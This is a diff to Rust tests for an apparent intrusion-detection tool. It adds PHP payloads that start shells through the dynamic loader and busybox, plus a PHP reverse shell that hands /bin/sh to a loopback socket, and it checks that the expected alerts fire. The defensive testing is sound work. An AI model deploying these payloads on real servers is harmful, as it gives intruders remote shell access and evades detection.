@@ -1,10 +1,16 @@
 //! What intruders do, through real servers. Every story asserts the facts of exactly the alerts
 //! that it must cause, and that the payload did what it claims.
 
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
 use std::path::{Path, PathBuf};
 
-use crate::alert::{self, CODE_WRITE, DATABASE_SHELL, DROPPED_EXEC, Expected, Rule, SHELL};
-use crate::host::{self, Outcome, Skip, User, real};
+use serde_json::Value;
+
+use crate::alert::{
+    self, CODE_WRITE, CRITICAL, DATABASE_SHELL, DROPPED_EXEC, Expected, HIGH, Rule, SHELL,
+};
+use crate::host::{self, DEADLINE, Outcome, Skip, User, real};
 use crate::http;
 use crate::scene::{Scene, Story};
 use crate::server::{self, Postgres, Site};
@@ -141,6 +147,26 @@ const EXECUTIONS: &[Execution] = &[
         via: &["setsid", "setsid"],
     },
     Execution {
+        name: "a shell that the dynamic loader starts",
+        rule: SHELL,
+        php: "$p = proc_open(['/lib64/ld-linux-x86-64.so.2', '/bin/sh', '-c', 'echo TOKEN'],\n\
+              [1 => ['pipe', 'w']], $io);\n\
+              echo stream_get_contents($io[1]); proc_close($p);",
+        executable: "/lib64/ld-linux-x86-64.so.2",
+        args: &["/lib64/ld-linux-x86-64.so.2", "/bin/sh", "-c", "echo TOKEN"],
+        via: &[],
+    },
+    Execution {
+        name: "the shell of busybox",
+        rule: SHELL,
+        php: "$p = proc_open(['/usr/bin/busybox', 'sh', '-c', 'echo TOKEN'],\n\
+              [1 => ['pipe', 'w']], $io);\n\
+              echo stream_get_contents($io[1]); proc_close($p);",
+        executable: "/usr/bin/busybox",
+        args: &["/usr/bin/busybox", "sh", "-c", "echo TOKEN"],
+        via: &[],
+    },
+    Execution {
         name: "python",
         rule: SHELL,
         php: "$p = proc_open(['/usr/bin/python3', '-c', 'print(\"TOKEN\")'],\n\
@@ -260,6 +286,7 @@ pub(crate) fn stories() -> Vec<Story> {
     }
     stories.extend([
         Story::new("php-fpm: move_uploaded_file", move_uploaded_file),
+        Story::new("php-fpm: a reverse shell", reverse_shell),
         Story::new("php-fpm: a shell's redirection into the root", redirection),
         Story::new("apache: mod_php system", |scene| {
             execute(scene, &server::apache()?, &EXECUTIONS[0])
@@ -296,15 +323,9 @@ pub(crate) fn stories() -> Vec<Story> {
 }
 
 fn execute(scene: &Scene, site: &Site, execution: &Execution) -> Outcome {
-    for &needed in execution
-        .args
-        .iter()
-        .take(1)
-        .filter(|arg| arg.starts_with("/usr/"))
-    {
-        if !Path::new(needed).exists() {
-            return Err(Skip(format!("{needed} is not installed")));
-        }
+    let program = Path::new(execution.args[0]);
+    if program.is_absolute() && !program.exists() {
+        return Err(Skip(format!("{} is not installed", program.display())));
     }
     let token = host::token();
     let fill = |text: &str| {
@@ -402,6 +423,47 @@ fn move_uploaded_file(scene: &Scene) -> Outcome {
     Ok(())
 }
 
+/// A shell whose input and output are a connection to the intruder.
+fn reverse_shell(scene: &Scene) -> Outcome {
+    let site = &scene.site;
+    let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a loopback port");
+    let port = listener.local_addr().expect("its address").port();
+    let token = host::token();
+    site.page(
+        "reverse.php",
+        &format!(
+            "<?php\n$s = fsockopen('127.0.0.1', {port});\n\
+             proc_close(proc_open(['/bin/sh'], [$s, $s, $s], $io));\necho 'done';\n"
+        ),
+    );
+    let expected = Expected {
+        severity: CRITICAL,
+        executable: real("/bin/sh"),
+        args: Some(vec!["/bin/sh".to_owned()]),
+        ..scene.expected(site, SHELL, &[])
+    };
+    let alerts = scene.alerts_of(1, || {
+        let intruder = std::thread::spawn({
+            let token = token.clone();
+            move || {
+                let (mut stream, _) = listener.accept()?;
+                stream.set_read_timeout(Some(DEADLINE))?;
+                stream.write_all(format!("echo {token}\nexit\n").as_bytes())?;
+                let mut said = String::new();
+                stream.read_to_string(&mut said)?;
+                std::io::Result::Ok(said)
+            }
+        });
+        assert_eq!(site.get("/reverse.php").body, "done");
+        let said = intruder.join().expect("intruder").expect("a connection");
+        assert_eq!(said.trim(), token);
+    });
+    alert::expect_exactly("reverse shell", &alerts, &[expected]);
+    let peer = alerts[0].pointer("/tracer/stdin/peer/port");
+    assert_eq!(peer, Some(&Value::from(port)), "peer of standard input");
+    Ok(())
+}
+
 /// Two alerts: the shell, and what the shell wrote.
 fn redirection(scene: &Scene) -> Outcome {
     let site = &scene.site;
@@ -482,6 +544,7 @@ fn copy_from_program(scene: &Scene) -> Outcome {
     let token = host::token();
     let expected = Expected {
         rule: DATABASE_SHELL,
+        severity: HIGH,
         executable: real("/bin/sh"),
         args: Some(vec![
             "sh".to_owned(),
